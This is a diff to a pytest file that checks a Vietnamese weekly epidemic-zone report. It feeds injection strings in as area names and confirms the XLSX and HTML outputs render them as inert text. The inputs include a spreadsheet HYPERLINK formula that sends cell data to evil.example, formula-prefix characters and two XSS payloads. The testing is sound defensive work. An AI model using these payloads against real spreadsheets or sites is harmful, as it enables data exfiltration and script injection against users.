@@ -2,6 +2,7 @@
 
 import base64
 import datetime as dt
+import zipfile
 from pathlib import Path
 
 import openpyxl
@@ -19,6 +20,22 @@ SUNDAY, LAST_SUNDAY = dt.date(2021, 9, 5), dt.date(2021, 8, 29)
 TAN_PHONG, BIEN_HOA, FAR_COMMUNE = "25996", "731", "26008"
 ARTIFACTS = ROOT / "test-artifacts" / "reports"
 LOCATED = "batch_id, row_hash, commune_code, area_code"
+# Names as a hostile source could write them (boundary files, feeds), and the text the XLSX must hold: formulas,
+# signs and @ stay literal text, control characters XML cannot hold become U+FFFD (TAB and CR are kept).
+HOSTILE = {
+    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")': None,
+    "+1": None, "-2": None, "@SUM(A1:A9)": None, "=1+2": None, "\tTab ở đầu": None, "\rCR ở đầu": None,
+    "Ấp\x01 Một\x0b\x1f": "Ấp\ufffd Một\ufffd\ufffd",
+    '<img src=x onerror="window.__xss=1">': None,
+    "</td><script>window.__xss=2</script>": None,
+}
+
+
+def xlsx_text(name: str) -> str:
+    """The text a name has in the workbook."""
+    return HOSTILE.get(name) or name
+
+
 CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                  "--disable-component-update", "--disable-sync", "--disable-quic", "--no-first-run"]
 
@@ -49,9 +66,27 @@ def insert_events(engine):
                      [{"d": d, "p": p, "b": b, "n": n, "on": on, "a": a, "c": c} for d, p, b, n, on, a, c in doses])
 
 
+def hostile_names(engine) -> dict[str, str]:
+    """Give the hostile names to every district but Biên Hòa and to Tân Phong's hamlets (which turn red);
+    returns code → name."""
+    with engine.connect() as conn:
+        districts = conn.execute(text("SELECT code FROM admin.area WHERE level = 2 AND code <> :b ORDER BY code"),
+                                 {"b": BIEN_HOA}).scalars().all()
+        hamlets = conn.execute(text("SELECT code FROM admin.area WHERE parent_code = :c ORDER BY code"),
+                               {"c": TAN_PHONG}).scalars().all()
+    names = list(HOSTILE)
+    assert len(districts) >= len(names)
+    renamed = {code: names[i % len(names)] for codes in (districts, hamlets) for i, code in enumerate(codes)}
+    with engine.begin() as conn:
+        conn.execute(text("UPDATE admin.area SET name = :n WHERE code = :c"),
+                     [{"c": c, "n": n} for c, n in renamed.items()])
+    return renamed
+
+
 @pytest.fixture(scope="module")
 def report(engine, db_url, tmp_path_factory):
     insert_events(engine)
+    hostile_names(engine)
     days = [LAST_SUNDAY, SUNDAY]
     compute_indicators(engine, days, StatsSettings())
     compute_zones(engine, days, load_ruleset("vn-4800-2021"), RiskSettings())
@@ -120,7 +155,7 @@ def test_units_per_colour_and_transitions_are_the_stored_zones(report, engine):
     by_district = {r["Huyện, thành phố"]: r for r in rows if r["Đơn vị"] == "Xã"}
     colour_header = {"green": "Cấp 1 (xanh)", "yellow": "Cấp 2 (vàng)", "orange": "Cấp 3 (cam)", "red": "Cấp 4 (đỏ)"}
     for district, colour, n in zones:
-        assert by_district[names[district]][colour_header[colour]] == n
+        assert by_district[xlsx_text(names[district])][colour_header[colour]] == n
     assert by_district["Thành phố Biên Hòa"]["Tăng cấp so với tuần trước"] >= 1
     moves = sheet_rows(report / "bao-cao-tuan-2021-W35.xlsx", "Chuyển màu")
     assert any(m["Huyện, thành phố"] == "Thành phố Biên Hòa" and m["Đơn vị"] == "Xã" and m["Tuần trước"] == "Xanh"
@@ -137,12 +172,40 @@ def test_units_turned_red_are_listed_with_reasons(report, engine):
     assert all(r["Mã"].startswith(TAN_PHONG) for r in hot)  # nothing else changed
 
 
+def test_hostile_names_are_text_cells_with_their_literal_text(report):
+    path = report / "bao-cao-tuan-2021-W35.xlsx"
+    book = openpyxl.load_workbook(path)
+    texts: dict[str, set] = {}
+    for ws in book.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
+                    texts.setdefault(ws.title, set()).add(cell.value)
+    # every hostile district name is a district row; the hamlets that turned red are listed under their own name
+    assert {xlsx_text(n) for n in HOSTILE} <= texts["Theo huyện"]
+    assert {xlsx_text(n) for n in HOSTILE} <= texts["Số đơn vị theo màu"]
+    hot_names = {r["Đơn vị"] for r in sheet_rows(path, "Lên cam, đỏ")}
+    assert len(hot_names & {xlsx_text(n) for n in HOSTILE}) >= 5
+    with zipfile.ZipFile(path) as z:  # no formula element anywhere in the workbook
+        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.endswith(".xml"))
+    # numbers stay numbers
+    districts = book["Theo huyện"]
+    header = [c.value for c in districts[1]]
+    for row in districts.iter_rows(min_row=2):
+        cases, positivity = row[header.index("Tổng ca mới")], row[header.index("Tỷ lệ dương tính")]
+        assert cases.data_type == "n" and isinstance(cases.value, int)
+        assert positivity.value is None or (positivity.data_type == "n" and isinstance(positivity.value, float))
+
+
 def test_html_report_opens_in_chromium(report):
     from playwright.sync_api import sync_playwright
 
     html = report / "bao-cao-tuan-2021-W35.html"
     text_ = html.read_text(encoding="utf-8")
     assert '<html lang="vi">' in text_ and "Phường Tân Phong" in text_ and "Thành phố Biên Hòa" in text_
+    assert "<script>window" not in text_ and "<img src=x" not in text_ and "&lt;img src=x onerror=" in text_
     assert "12,5 %" in text_  # Biên Hòa's positivity, 5 of 40, written the Vietnamese way
     ARTIFACTS.mkdir(parents=True, exist_ok=True)
     with sync_playwright() as p:
@@ -154,6 +217,10 @@ def test_html_report_opens_in_chromium(report):
         page.on("request", lambda r: outside.append(r.url) if not r.url.startswith(("file:", "data:")) else None)
         page.goto(html.as_uri())
         assert page.title().startswith("Báo cáo tuần 2021-W35")
+        assert page.evaluate("window.__xss") is None  # no hostile name ran as script
+        cells = set(page.eval_on_selector_all("td", "tds => tds.map(t => t.textContent)"))
+        # the page shows every hostile name as its text (HTML reads a CR as a line feed)
+        assert {n.replace("\r", "\n") for n in HOSTILE} <= cells
         assert page.eval_on_selector("img.map", "i => i.complete && i.naturalWidth") > 300
         page.screenshot(path=str(ARTIFACTS / "weekly-2021-W35.png"), full_page=True)
         browser.close()
